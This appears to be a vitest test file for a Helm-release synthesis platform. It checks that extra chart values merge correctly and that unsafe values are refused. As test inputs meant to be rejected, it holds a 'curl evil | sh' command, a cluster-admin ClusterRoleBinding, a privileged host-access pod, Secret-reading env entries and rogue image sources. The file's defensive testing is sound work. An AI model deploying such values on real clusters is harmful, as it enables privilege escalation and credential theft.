/**
 * The spec's escape hatches for charts (`apps[].values`, `apps[].chartVersion`), on real
 * synthesized apps stacks on every cloud: a value lands in the release's values after ours, a
 * version in `version`, the merged values pass the chart contract (or the contract check says
 * which checks it could not run), and every refusal is one message with the file, the field
 * path, what was given and what is accepted. What the spec alone cannot refuse is refused by the
 * policy pack at synth, with the pack's own message.
 */
import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Testing } from "cdktn";
import { describe, expect, it, vi } from "vitest";
import { APP_CHARTS, APP_RENDERERS } from "../constructs/apps/catalogue";
import { credentialKey, mergeUserValues, REFUSED_KEYS } from "../constructs/apps/user-values";
import { CLOUDS, parseEnvironment, type EnvironmentInput } from "../constructs/core/spec";
import { APP_NAMES } from "../constructs/core/apps";
import { specChecks, synthesize } from "../stacks/app";
import { AppsStack } from "../stacks/apps";
import { CHARTS_DIR, releaseContracts } from "./support/chart-contract";
import { everyAppSpec, specProblems } from "./support/fixtures";
import { appContext } from "./support/app-context";

type Apps = NonNullable<EnvironmentInput["apps"]>;
type AppInput = Apps[number];

/** `everyAppSpec` with `extra` merged into the app of that name. */
function withApp(input: EnvironmentInput, name: string, extra: Partial<AppInput>): EnvironmentInput {
  return { ...input, apps: (input.apps ?? []).map((app) => (app.name === name ? { ...app, ...extra } : app)) };
}

/** Tuning, what extra values are for: replicas, resources, config, env with a plain value, annotations, a persistence size. */
const AIRFLOW_VALUES = {
  scheduler: { replicas: 3 },
  workers: { resources: { requests: { cpu: "500m", memory: "1Gi" }, limits: { memory: "2Gi" } } },
  triggerer: { persistence: { size: "20Gi" } },
  config: { core: { parallelism: 64 }, scheduler: { dag_dir_list_interval: 120 } },
  env: [{ name: "TEAM", value: "data" }],
  airflowPodAnnotations: { "example.com/team": "data" },
};
const PREREQUISITE_VALUES = { opensearch: { persistence: { size: "200Gi" } } };

function customised(cloud: (typeof CLOUDS)[number]): EnvironmentInput {
  const airflow = withApp(everyAppSpec(cloud, true), "airflow", { values: { airflow: AIRFLOW_VALUES } });
  const datahub = withApp(airflow, "datahub", { values: { "datahub-prerequisites": PREREQUISITE_VALUES } });
  return withApp(datahub, "metabase", { chartVersion: { metabase: "2.27.0" } });
}

interface Release {
  readonly id: string;
  readonly name: string;
  readonly version: string;
  readonly text: string;
  readonly values: Record<string, unknown>;
}

function releases(stackText: string): Map<string, Release> {
  const all = (JSON.parse(stackText) as { resource: { helm_release: Record<string, { name: string; version: string; values: string[] }> } }).resource.helm_release;
  return new Map(
    Object.entries(all).map(([id, release]) => [
      release.name,
      { id, name: release.name, version: release.version, text: release.values[0], values: JSON.parse(release.values[0].replace(/\$\{[^}]*\}/g, (ref) => ref.replace(/"/g, "'"))) as Record<string, unknown> },
    ]),
  );
}

describe.each(CLOUDS)("spec values and chart versions on %s", (cloud) => {
  const plain = releases(Testing.synth(new AppsStack(Testing.app(), parseEnvironment(everyAppSpec(cloud, true), specChecks))));
  const text = Testing.synth(new AppsStack(Testing.app(), parseEnvironment(customised(cloud), specChecks)));
  const byName = releases(text);

  it("merges the values last, over ours: the given keys win, ours beside them stay, new keys come after ours", () => {
    const airflow = byName.get("airflow")?.values ?? {};
    const ours = plain.get("airflow")?.values ?? {};
    expect(airflow).toEqual(mergeUserValues(ours, AIRFLOW_VALUES));
    expect(airflow.scheduler).toMatchObject({ replicas: 3, resources: (ours.scheduler as Record<string, unknown>).resources, serviceAccount: { create: false, name: "airflow" } });
    expect((ours.scheduler as Record<string, unknown>).replicas).toBe(2);
    expect(Object.keys(airflow)).toEqual([...Object.keys(ours), ...Object.keys(AIRFLOW_VALUES).filter((key) => !(key in ours))]);
    // The release's values document as synthesized (JSON text Helm receives) carries the value.
    expect(byName.get("airflow")?.text).toContain('"example.com/team": "data"');
  });

  it("addresses each of DataHub's charts by its name: the prerequisites get theirs, DataHub's own release is unchanged", () => {
    expect(byName.get("prerequisites")?.values).toMatchObject({ opensearch: { enabled: true, persistence: { enabled: true, size: "200Gi" } } });
    expect(byName.get("datahub")?.text).toBe(plain.get("datahub")?.text);
    expect(byName.get("strimzi")?.text).toBe(plain.get("strimzi")?.text);
  });

  it("puts the chart version in the release's version, and changes no other release", () => {
    expect(byName.get("metabase")?.version).toBe("2.27.0");
    expect(plain.get("metabase")?.version).toBe("2.26.0");
    const others = [...byName.values()].filter((release) => !["airflow", "prerequisites", "metabase"].includes(release.name));
    expect(others.map((release) => [release.name, release.version, release.text])).toEqual(others.map((release) => [release.name, plain.get(release.name)?.version, plain.get(release.name)?.text]));
  });

  it("checks the merged values against the chart contracts, and says which checks it could not run for the version without a contract", () => {
    const report = releaseContracts(text);
    expect(report.problems).toEqual([]);
    expect(report.checked).toEqual(expect.arrayContaining([`helm_release.${byName.get("airflow")?.id}`, `helm_release.${byName.get("prerequisites")?.id}`]));
    expect(report.unchecked).toEqual([
      `helm_release.${byName.get("metabase")?.id}: chart metabase 2.27.0 differs from the contract's 2.26.0 (shared/charts/metabase/SOURCE.txt); not run: the key-path check (unknownPaths) and the values.schema.json check (schemaErrors)`,
    ]);
  });
});

describe("the contract check over user values finds what the chart does not know", () => {
  it("a misspelt key in an app's values is a problem of the release, with its path", () => {
    const input = withApp(everyAppSpec("aws", false), "airflow", { values: { airflow: { scheduler: { replica: 3 } } } });
    const text = Testing.synth(new AppsStack(Testing.app(), parseEnvironment(input, specChecks)));
    const id = releases(text).get("airflow")?.id;
    expect(releaseContracts(text).problems).toEqual([
      `helm_release.${id} (airflow 1.19.0): scheduler.replica is not a key of the chart`,
      `helm_release.${id} (airflow 1.19.0): values.schema.json: /scheduler must NOT have additional properties {"additionalProperty":"replica"}`,
    ]);
  });
});

describe("refused in the spec pass, one message each: field path, given, accepted", () => {
  const base = everyAppSpec("aws", true);
  const problems = (name: string, extra: Record<string, unknown>) => specProblems(withApp(base, name, extra as Partial<AppInput>));
  const airflow = (base.apps ?? []).findIndex((app) => app.name === "airflow");
  const datahub = (base.apps ?? []).findIndex((app) => app.name === "datahub");

  it.each([
    ["values that are not an object", "airflow", { values: "scheduler.replicas=3" }, [`apps[${airflow}].values: given "scheduler.replicas=3"; accepted: an object keyed by the app's chart names`]],
    ["a chart's values that are not an object", "airflow", { values: { airflow: ["scheduler"] } }, [`apps[${airflow}].values.airflow: given ["scheduler"]; accepted: a JSON object of Helm values`]],
    ["values of a chart the app does not install", "datahub", { values: { kafka: {} } }, [`apps[${datahub}].values.kafka: given "kafka"; accepted: the name of a chart datahub installs: strimzi-kafka-operator | datahub-prerequisites | datahub`]],
    ["a value that is not JSON", "airflow", { values: { airflow: { scheduler: { replicas: Number.NaN } } } }, [`apps[${airflow}].values.airflow.scheduler.replicas: given "NaN"; accepted: a JSON value: a string, a finite number, true, false, null, a list or a plain object`]],
    [
      "a service account",
      "airflow",
      { values: { airflow: { workers: { serviceAccount: { name: "default" } } } } },
      [`apps[${airflow}].values.airflow.workers.serviceAccount: given {"name":"default"}; accepted: no serviceAccount: the platform owns it (the platform's service account, bound to the app's cloud identity); README, "Extra Helm values and chart versions"`],
    ],
    [
      "a security context, at any depth",
      "datahub",
      { values: { datahub: { "datahub-gms": { podSecurityContext: { runAsUser: 0 } } } } },
      [`apps[${datahub}].values.datahub.datahub-gms.podSecurityContext: given {"runAsUser":0}; accepted: no podSecurityContext: the platform owns it (the security context Pod Security restricted admits); README, "Extra Helm values and chart versions"`],
    ],
    ["a version range", "airflow", { chartVersion: { airflow: "^1.19.0" } }, [`apps[${airflow}].chartVersion.airflow: given "^1.19.0"; accepted: an exact chart version MAJOR.MINOR.PATCH such as 1.19.0 (no range, no v, no pre-release)`]],
    [
      "a version lower than the pinned one",
      "airflow",
      { chartVersion: { airflow: "1.18.0" } },
      [`apps[${airflow}].chartVersion.airflow: given "1.18.0"; accepted: 1.19.0 (the pinned version) or higher: the platform's values and checks are written for the pinned chart's templates, and a lower chart would downgrade the app over a database it already migrated`],
    ],
    ["a version of a chart the app does not install", "airflow", { chartVersion: { redis: "1.0.0" } }, [`apps[${airflow}].chartVersion.redis: given "redis"; accepted: the name of a chart airflow installs: airflow`]],
  ])("%s", (_, name, extra, expected) => {
    expect(problems(name, extra)).toEqual(expected);
  });

  it("accepts the pinned version and a higher one", () => {
    expect(problems("airflow", { chartVersion: { airflow: "1.19.0" } })).toEqual([]);
    expect(problems("airflow", { chartVersion: { airflow: "1.20.0" } })).toEqual([]);
  });
});

describe("the merge refuses what the spec pass refuses, for a caller that parsed without the spec checks", () => {
  it("an owned key fails the apps stack with the same message", () => {
    const input = withApp(everyAppSpec("azure", false), "airbyte", { values: { airbyte: { global: { serviceAccountName: "default" } } } });
    const index = (input.apps ?? []).findIndex((app) => app.name === "airbyte");
    expect(() => new AppsStack(Testing.app(), parseEnvironment(input))).toThrow(
      `environment "test" has 1 problem:\n  - apps[${index}].values.airbyte.global.serviceAccountName: given "default"; accepted: no serviceAccountName: the platform owns it (the platform's service account, bound to the app's cloud identity); README, "Extra Helm values and chart versions"`,
    );
  });
});

/** Synthesizes `inputs` as `npm run synth` does, from a file named `environments/custom.ts`, capturing stderr. */
function synthCapture(input: EnvironmentInput): { code: number; stderr: string } {
  const stderr: string[] = [];
  const spy = vi.spyOn(process.stderr, "write").mockImplementation((chunk) => (stderr.push(String(chunk)), true));
  const stdout = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
  try {
    return { code: synthesize([input], join(mkdtempSync(join(tmpdir(), "user-values-")), "out"), undefined, () => "environments/custom.ts"), stderr: stderr.join("") };
  } finally {
    spy.mockRestore();
    stdout.mockRestore();
  }
}

describe("refused when the release is rendered: a value that changes how the platform wires the app", () => {
  const base = everyAppSpec("gcp", false);
  const airflow = (base.apps ?? []).findIndex((app) => app.name === "airflow");

  it.each([
    [
      "the database Secret's name (a Secret reference: refused by the spec pass, before the wiring check)",
      { data: { metadataSecretName: "my-database" } },
      `  - apps[${airflow}].values.airflow.data.metadataSecretName: given "my-database"; accepted: no metadataSecretName: the platform creates or syncs every Secret (from the cloud secret store) and wires each reference to one; a credential in values lands in the synthesized JSON and the Terraform state; README, "Extra Helm values and chart versions"`,
    ],
    [
      "a list that holds a generated Secret's reference (lists replace)",
      { apiServer: { env: [{ name: "EXTRA", value: "1" }] } },
      `  - apps[${airflow}].values.airflow.apiServer.env: given [{"name":"EXTRA","value":"1"}]; accepted: no change to apiServer.env.0.valueFrom.secretKeyRef.name ("airflow-keys"): the platform wires airflow with it (a service account, a Secret it creates or syncs, or the infra stack); add keys beside it instead`,
    ],
    [
      "the app's bucket in the remote log folder (its name from the infra stack)",
      { config: { logging: { remote_base_log_folder: "gs://another-bucket/logs" } } },
      `  - apps[${airflow}].values.airflow.config.logging.remote_base_log_folder: given "gs://another-bucket/logs"; accepted: no change to config.logging.remote_base_log_folder ("gs://test-logs-b544b5ea/airflow/logs"): the platform wires airflow with it (a service account, a Secret it creates or syncs, or the infra stack); add keys beside it instead`,
    ],
  ])("%s", (_, values, line) => {
    const { code, stderr } = synthCapture(withApp(base, "airflow", { values: { airflow: values } }));
    expect(code).toBe(1);
    expect(stderr).toBe(`spec error: environments/custom.ts: environment "test" has 1 problem:\n${line}\n`);
  });
});

describe("refused by the policy pack at synth, with the pack's message, when a value weakens one of its rules", () => {
  const base = everyAppSpec("aws", false);

  it.each([
    ["DataHub's Bitnami Kafka (kafka-authenticated)", "datahub", { "datahub-prerequisites": { kafka: { enabled: true } } }, /helm_release\.datahub-prerequisites_\w+: kafka-authenticated \(.*\): kafka\.enabled is true: the Bitnami Kafka listens in PLAINTEXT\. Fix: /],
    [
      "a password in Airflow's config (no-credential-in-values)",
      "airflow",
      { airflow: { config: { celery: { broker_url: "redis://default:hunter2@redis:6379/0" } } } },
      /helm_release\.airflow-airflow_\w+: no-credential-in-values \(.*\): config\.celery\.broker_url holds a URL with a password/,
    ],
  ])("%s", (_, name, values, message) => {
    const { code, stderr } = synthCapture(withApp(base, name, { values }));
    expect(code).toBe(1);
    expect(stderr).toMatch(message);
    expect(stderr).toMatch(/policy violations?; nothing was written/);
  });
});

describe("APP_CHARTS, the keys of values and chartVersion, are the charts each renderer installs", () => {
  it.each(CLOUDS.flatMap((cloud) => APP_NAMES.map((app) => [app, cloud] as const)))("%s on %s", (app, cloud) => {
    expect(APP_RENDERERS[app](appContext(app, cloud, true)).map((release) => release.chart)).toEqual(APP_CHARTS[app]);
  });
});

/** Every .ts file below a folder of the repository, relative path -> text. */
function sources(folder: string): [string, string][] {
  const root = join(__dirname, "..");
  return readdirSync(join(root, folder), { recursive: true, encoding: "utf8" })
    .filter((file) => file.endsWith(".ts"))
    .map((file) => [join(folder, file), readFileSync(join(root, folder, file), "utf8")]);
}

describe("no second way to change a release", () => {
  // A helm_release's values and version come from HelmRelease (constructs/apps/helm.ts) and the
  // spec through withUserValues only: no raw Terraform override on a release or its values/set
  // anywhere in the library (the overrides that exist are on providers and the terraform block).
  it("no Terraform override in the library touches a helm_release", () => {
    const overrides = ["constructs", "stacks", "environments"].flatMap(sources).flatMap(([file, text]) =>
      text
        .split("\n")
        .map((line, index) => ({ file, line: index + 1, text: line.trim() }))
        .filter(({ text }) => /\b(addOverride|overrideLogicalId|addPropertyOverride)\(/.test(text)),
    );
    expect(overrides.length).toBeGreaterThan(0);
    expect(overrides.filter(({ text }) => /helm|release|values|\bset\b|chart/i.test(text))).toEqual([]);
  });
});

/**
 * The R13 review's cases (/tmp/review-R13: bypass.ts, extra.ts, priv.ts, np.ts, gs.ts), each of
 * which passed `validate()` before: every one is refused in the spec pass, one message per
 * refused key, at the key's path.
 */
describe("extra values tune a chart: what would add objects, containers, volumes, images, openings, roles or Secrets is refused", () => {
  const base = everyAppSpec("aws", false);
  const at = (name: string) => (base.apps ?? []).findIndex((app) => app.name === name);
  const crb = {
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "ClusterRoleBinding",
    metadata: { name: "oops" },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    subjects: [{ kind: "ServiceAccount", name: "airflow-tasks", namespace: "airflow" }],
  };
  const allowAll = { apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: { name: "allow-all", namespace: "airflow" }, spec: { podSelector: {}, ingress: [{}], egress: [{}] } };
  const privilegedPod = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\n  namespace: node-exporter\nspec:\n  hostNetwork: true\n  hostPID: true\n  containers:\n  - name: sh\n    image: busybox:1.36\n    securityContext:\n      privileged: true\n";
  const jwtRef = { name: "AIRFLOW__API_AUTH__JWT_SECRET", valueFrom: { secretKeyRef: { name: "airflow-keys", key: "jwt-secret" } } };

  // [finding and case, app, chart values, [path below values.<chart>, refused key] of every message]
  it.each<[string, string, Record<string, unknown>, [string, string][]]>([
    ["B1 kube-prometheus-stack extraManifests: cluster-admin for the task account", "monitoring", { "kube-prometheus-stack": { extraManifests: [crb] } }, [["kube-prometheus-stack.extraManifests", "extraManifests"]]],
    ["B1 extraManifests: an allow-all NetworkPolicy", "monitoring", { "kube-prometheus-stack": { extraManifests: [allowAll] } }, [["kube-prometheus-stack.extraManifests", "extraManifests"]]],
    ["B1 extraManifests: a privileged hostPath Pod given as a YAML string (refused by the key, not parsed)", "monitoring", { "kube-prometheus-stack": { extraManifests: [privilegedPod] } }, [["kube-prometheus-stack.extraManifests", "extraManifests"]]],
    ["B1 the subcharts' own extraManifests", "monitoring", { "kube-prometheus-stack": { "kube-state-metrics": { extraManifests: [crb] }, "prometheus-node-exporter": { extraManifests: [privilegedPod] } } }, [["kube-prometheus-stack.kube-state-metrics.extraManifests", "extraManifests"], ["kube-prometheus-stack.prometheus-node-exporter.extraManifests", "extraManifests"]]],
    ["B1 grafana extraObjects", "grafana", { grafana: { extraObjects: [crb] } }, [["grafana.extraObjects", "extraObjects"]]],
    ["B1 airflow extraDeploy", "airflow", { airflow: { extraDeploy: [crb] } }, [["airflow.extraDeploy", "extraDeploy"]]],
    ["M1 enableBuiltInSecretEnvVars: the signing keys back in task pods", "airflow", { airflow: { enableBuiltInSecretEnvVars: { AIRFLOW__API_AUTH__JWT_SECRET: true, AIRFLOW__API__SECRET_KEY: true } } }, [["airflow.enableBuiltInSecretEnvVars", "enableBuiltInSecretEnvVars"]]],
    ["M1 workers.env with the JWT Secret", "airflow", { airflow: { workers: { env: [jwtRef] } } }, [["airflow.workers.env[0].name", "environment variable AIRFLOW__API_AUTH__JWT_SECRET"]]],
    ["M1 an env entry reading any Secret", "airflow", { airflow: { workers: { env: [{ name: "X", valueFrom: { secretKeyRef: { name: "airflow-database", key: "password" } } }] } } }, [["airflow.workers.env[0].valueFrom", "valueFrom"]]],
    ["M1 the secret list", "airflow", { airflow: { secret: [{ envName: "AIRFLOW__API_AUTH__JWT_SECRET", secretName: "airflow-keys", secretKey: "jwt-secret" }] } }, [["airflow.secret", "secret"]]],
    ["M1 extraEnv as a YAML string", "airflow", { airflow: { extraEnv: "- name: AIRFLOW__API_AUTH__JWT_SECRET\n  valueFrom:\n    secretKeyRef:\n      name: airflow-keys\n      key: jwt-secret\n" } }, [["airflow.extraEnv", "extraEnv as a string"]]],
    ["M1 extraEnvFrom", "airflow", { airflow: { extraEnvFrom: "- secretRef:\n    name: airflow-keys\n" } }, [["airflow.extraEnvFrom", "extraEnvFrom"]]],
    ["M1 a volume of the database Secret", "airflow", { airflow: { workers: { extraVolumes: [{ name: "db", secret: { secretName: "airflow-database" } }], extraVolumeMounts: [{ name: "db", mountPath: "/db" }] } } }, [["airflow.workers.extraVolumes", "extraVolumes"], ["airflow.workers.extraVolumeMounts", "extraVolumeMounts"]]],
    ["M2 Airflow's NetworkPolicies with open peers", "airflow", { airflow: { networkPolicies: { enabled: true }, apiServer: { networkPolicy: { ingress: { from: [{ ipBlock: { cidr: "0.0.0.0/0" } }, { namespaceSelector: {} }] } } } } }, [["airflow.networkPolicies", "networkPolicies"], ["airflow.apiServer.networkPolicy", "networkPolicy"]]],
    ["pod labels a NetworkPolicy selects: Airflow pods labelled as the scheduler", "airflow", { airflow: { labels: { component: "scheduler" }, workers: { podLabels: { tier: "airflow" } } } }, [["airflow.labels", "labels"], ["airflow.workers.podLabels", "podLabels"]]],
    ["M2 grafana networkPolicy", "grafana", { grafana: { networkPolicy: { enabled: true, allowExternal: true } } }, [["grafana.networkPolicy", "networkPolicy"]]],
    ["M3 images.airflow latest from another registry", "airflow", { airflow: { images: { airflow: { repository: "docker.io/evil/airflow", tag: "latest" } } } }, [["airflow.images", "images"]]],
    ["M3 defaultAirflowRepository and defaultAirflowTag", "airflow", { airflow: { defaultAirflowRepository: "evil/airflow", defaultAirflowTag: "latest" } }, [["airflow.defaultAirflowRepository", "defaultAirflowRepository"], ["airflow.defaultAirflowTag", "defaultAirflowTag"]]],
    ["M3 metabase image latest", "metabase", { metabase: { image: { repository: "metabase/metabase", tag: "latest" } } }, [["metabase.image", "image"]]],
    ["M4 registry.connection.pass", "airflow", { airflow: { registry: { connection: { user: "u", pass: "hunter2", host: "reg.example.com" } } } }, [["airflow.registry.connection.pass", "pass"]]],
    ["M4 data.metadataConnection.pass", "airflow", { airflow: { data: { metadataConnection: { user: "u", pass: "hunter2" } } } }, [["airflow.data.metadataConnection.pass", "pass"]]],
    ["M4 fernetKey", "airflow", { airflow: { fernetKey: "Zm9vYmFyYmF6cXV4cXV4cXV4cXV4cXV4cXV4cXV4cXU=" } }, [["airflow.fernetKey", "fernetKey"]]],
    ["M4 config.api_auth.jwt_secret", "airflow", { airflow: { config: { api_auth: { jwt_secret: "abcdef0123456789" } } } }, [["airflow.config.api_auth.jwt_secret", "jwt_secret"]]],
    ["M4 webserverSecretKey and apiSecretKey", "airflow", { airflow: { webserverSecretKey: "x", apiSecretKey: "y" } }, [["airflow.webserverSecretKey", "webserverSecretKey"], ["airflow.apiSecretKey", "apiSecretKey"]]],
    ["M4 a credential in a plain env value", "airflow", { airflow: { env: [{ name: "AIRFLOW__API_AUTH__JWT_SECRET", value: "abcdef" }] } }, [["airflow.env[0].name", "environment variable AIRFLOW__API_AUTH__JWT_SECRET"]]],
    ["M4 grafana admin password", "grafana", { grafana: { adminPassword: "admin" } }, [["grafana.adminPassword", "adminPassword"]]],
    ["M5 workers.extraContainers", "airflow", { airflow: { workers: { extraContainers: [{ name: "x", image: "busybox" }] } } }, [["airflow.workers.extraContainers", "extraContainers"]]],
    ["M5 scheduler.extraInitContainers", "airflow", { airflow: { scheduler: { extraInitContainers: [{ name: "x", image: "busybox" }] } } }, [["airflow.scheduler.extraInitContainers", "extraInitContainers"]]],
    ["M5 a hostPath volume", "airflow", { airflow: { volumes: [{ name: "h", hostPath: { path: "/" } }], volumeMounts: [{ name: "h", mountPath: "/host" }] } }, [["airflow.volumes", "volumes"], ["airflow.volumeMounts", "volumeMounts"]]],
    ["M5 scheduler.extraVolumes with a hostPath", "airflow", { airflow: { scheduler: { extraVolumes: [{ name: "h", hostPath: { path: "/var/run" } }] } } }, [["airflow.scheduler.extraVolumes", "extraVolumes"]]],
    ["M5 a command", "airflow", { airflow: { workers: { command: ["sh", "-c", "curl evil | sh"] } } }, [["airflow.workers.command", "command"]]],
    ["M5 datahub extraSidecars", "datahub", { datahub: { "datahub-gms": { extraSidecars: [{ name: "x", image: "busybox" }] } } }, [["datahub.datahub-gms.extraSidecars", "extraSidecars"]]],
    ["M5 podTemplate", "airflow", { airflow: { podTemplate: "apiVersion: v1\nkind: Pod" } }, [["airflow.podTemplate", "podTemplate"]]],
    ["M6 dags.gitSync over SSH without known hosts", "airflow", { airflow: { dags: { gitSync: { enabled: true, repo: "git@github.com:acme/dags.git", sshKeySecret: "mine", branch: "main", ref: "main" } } } }, [["airflow.dags", "dags"]]],
    ["M6 dags.gitSync over HTTPS", "airflow", { airflow: { dags: { gitSync: { enabled: true, repo: "https://github.com/acme/dags.git", branch: "main", ref: "main", subPath: "" } } } }, [["airflow.dags", "dags"]]],
    ["m1 apiServer Service LoadBalancer without sso", "airflow", { airflow: { apiServer: { service: { type: "LoadBalancer" } } } }, [["airflow.apiServer.service.type", "type LoadBalancer"]]],
    ["m1 statsd Service NodePort", "airflow", { airflow: { statsd: { service: { type: "NodePort" } } } }, [["airflow.statsd.service.type", "type NodePort"]]],
    ["m1 metabase Service LoadBalancer", "metabase", { metabase: { service: { type: "LoadBalancer", loadBalancerSourceRanges: ["0.0.0.0/0"] } } }, [["metabase.service.type", "type LoadBalancer"], ["metabase.service.loadBalancerSourceRanges", "loadBalancerSourceRanges"]]],
    ["m1 grafana Service LoadBalancer", "grafana", { grafana: { service: { type: "LoadBalancer" } } }, [["grafana.service.type", "type LoadBalancer"]]],
    ["m1 prometheus Service LoadBalancer", "monitoring", { "kube-prometheus-stack": { prometheus: { service: { type: "LoadBalancer", externalIPs: ["203.0.113.1"] } } } }, [["kube-prometheus-stack.prometheus.service.type", "type LoadBalancer"], ["kube-prometheus-stack.prometheus.service.externalIPs", "externalIPs"]]],
    ["RBAC: rbac, multiNamespaceMode", "airflow", { airflow: { rbac: { create: true }, multiNamespaceMode: true } }, [["airflow.rbac", "rbac"], ["airflow.multiNamespaceMode", "multiNamespaceMode"]]],
    ["RBAC: grafana extraClusterRoleRules", "grafana", { grafana: { extraClusterRoleRules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }] } }, [["grafana.extraClusterRoleRules", "extraClusterRoleRules"]]],
  ])("%s", (_, name, values, expected) => {
    const problems = specProblems(withApp(base, name, { values } as Partial<AppInput>));
    expect(problems.map((problem) => problem.slice(0, problem.indexOf(": given ")))).toEqual(expected.map(([path]) => `apps[${at(name)}].values.${path}`));
    problems.forEach((problem, i) => expect(problem).toContain(`; accepted: no ${expected[i][1]}: `));
  });

  it("says why and what to use instead, with the file, at synth", () => {
    const { code, stderr } = synthCapture(withApp(base, "airflow", { values: { airflow: { images: { airflow: { repository: "evil/airflow", tag: "latest" } } } } }));
    expect(code).toBe(1);
    expect(stderr).toBe(
      `spec error: environments/custom.ts: environment "test" has 1 problem:\n  - apps[${at("airflow")}].values.airflow.images: given {"airflow":{"repository":"evil/airflow","tag":"latest"}}; accepted: no images: the image is the spec's: a version tag (never latest) or a digest, checked by the spec pass; use apps[].image (airflow, metabase) instead; README, "Extra Helm values and chart versions"\n`,
    );
  });

  it("a flag named like a credential is tuning, not a credential (a boolean or a number names none)", () => {
    expect(specProblems(withApp(base, "grafana", { values: { grafana: { "grafana.ini": { "auth.generic_oauth": { use_refresh_token: true } } } } } as Partial<AppInput>))).toEqual([]);
  });

  it("the words of a key, not its letters, make it a credential key", () => {
    expect(["pass", "password", "adminPassword", "fernetKey", "jwt_secret", "apiSecretKey", "existingSecret", "secretKeyRef", "imagePullSecrets", "AIRFLOW__API__SECRET_KEY", "api_key", "privateKey", "accessKey", "token"].filter((key) => !credentialKey(key))).toEqual([]);
    expect(["passthrough", "bypass", "secure", "cookie_secure", "tokenizer", "keyspace", "replicas"].filter(credentialKey)).toEqual([]);
  });
});

/**
 * The list is derived from what the pinned charts' templates read (../shared/charts/<chart>/
 * template-refs.json): every key whose name says it adds objects, containers, volumes, images,
 * network openings, roles or environments from other objects is refused, is a credential key, or
 * is here as tuning with the reason. A new chart or version with a new such key fails this test.
 */
const TUNING: Readonly<Record<string, string>> = {
  autoMount: "serviceAccount.autoMount: below serviceAccount, refused by its parent",
  connectorSidecar: "airbyte-v2's own connector sidecar: its resources; its image is refused by `image`",
  logGroomerSidecar: "airflow's own log groomer: retention and resources; its image is images.*",
  metricsExporterSidecar: "airflow's own metrics exporter: resources; its image is images.*",
  sidecar: "grafana's own dashboard and datasource sidecar: which labels it watches; its image is refused by `image`",
  extraAnnotations: "annotations",
  extraPvcLabels: "labels",
  extractAllPodAnnotations: "opentelemetry-collector: which pod annotations to copy into telemetry",
  extractAllPodLabels: "opentelemetry-collector: which pod labels to copy into telemetry",
  extraArgs: "flags of the chart's own binary (kube-state-metrics, node-exporter, the collector); the command stays the chart's",
  extraEnv: "env entries: each must be a plain name and value, no credential name (checked entry by entry); a string is refused",
  extraEnvVars: "env entries, checked entry by entry",
  extraEnvs: "env entries, checked entry by entry",
  extraIni: "airflow pgbouncer configuration",
  extraIniMetadata: "airflow pgbouncer configuration",
  extraIniResultBackend: "airflow pgbouncer configuration",
  extraJsonData: "grafana datasource settings",
  extraMappings: "airflow statsd exporter metric mappings",
  extraPorts: "container ports: they declare, they open nothing (the namespace's NetworkPolicies decide)",
  extraScopes: "airbyte-v2 OAuth scopes",
  shmVolume: "airflow's own memory-backed /dev/shm, sized",
  volumeClaimTemplates: "persistence of the chart's own StatefulSet (its size and class)",
};
const SUSPECT_KEY =
  /^extra|Containers?$|[Ss]idecars?$|Volumes?$|VolumeMounts?$|Mounts?$|[Ii]mages?$|ImageRegistry$|^imageRegistry$|NetworkPolic|RoleRules$|Manifests$|Objects$|^initContainers$|[Ll]ifecycle|[Hh]ostPort|NodePorts?$|^nodePorts?$|^externalIPs$|^loadBalancer|Deploy$|Registry$|^rbac$|^clusterRole|^command$|^args$|[Ee]nvs?From|^envValueFrom$|^valueFrom$|^hostPath$|Templates?$/;

describe("the refused keys cover what the pinned charts' templates read", () => {
  const charts = readdirSync(CHARTS_DIR, { withFileTypes: true }).filter((entry) => entry.isDirectory() && readdirSync(join(CHARTS_DIR, entry.name)).includes("template-refs.json")).map((entry) => entry.name);
  const keys = new Map<string, string[]>();
  for (const chart of charts)
    for (const path of (JSON.parse(readFileSync(join(CHARTS_DIR, chart, "template-refs.json"), "utf8")) as { referenced: unknown[][] }).referenced)
      for (const key of path) if (typeof key === "string" && SUSPECT_KEY.test(key)) keys.set(key, [...new Set([...(keys.get(key) ?? []), chart])]);

  it("reads the contracts of the charts the platform installs", () => {
    expect(charts).toEqual(expect.arrayContaining(["airflow", "datahub", "grafana", "kube-prometheus-stack", "metabase"]));
    expect(keys.get("extraManifests")).toEqual(expect.arrayContaining(["kube-prometheus-stack"]));
  });

  it("every such key is refused, a credential key, or tuning with its reason", () => {
    expect([...keys].filter(([key]) => !Object.hasOwn(REFUSED_KEYS, key) && !credentialKey(key) && !Object.hasOwn(TUNING, key))).toEqual([]);
  });

  it("the tuning list names only keys the charts read (no stale entry)", () => {
    expect(Object.keys(TUNING).filter((key) => !keys.has(key))).toEqual([]);
  });
});
